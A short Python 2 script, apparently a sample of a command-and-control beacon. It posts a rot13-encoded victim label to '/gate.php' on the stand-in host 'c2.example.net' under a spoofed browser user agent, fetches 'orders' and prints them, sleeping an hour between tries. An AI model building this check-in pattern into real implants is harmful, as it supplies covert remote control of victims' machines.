# Reports to a server over HTTP and asks for orders, in the style of a beacon.
import httplib
import socket
import time


def order(report):
    connection = httplib.HTTPConnection('c2.example.net', 8080, timeout=5)
    connection.request('POST', '/gate.php', report, {'User-Agent': 'Mozilla/4.0'})
    return connection.getresponse().read()


for attempt in range(2):
    try:
        print order('host=%s' % 'victim'.encode('rot13'))
    except httplib.HTTPException:
        print 'no orders'
    except socket.error:
        print 'offline'
    time.sleep(3600)
print 'end'
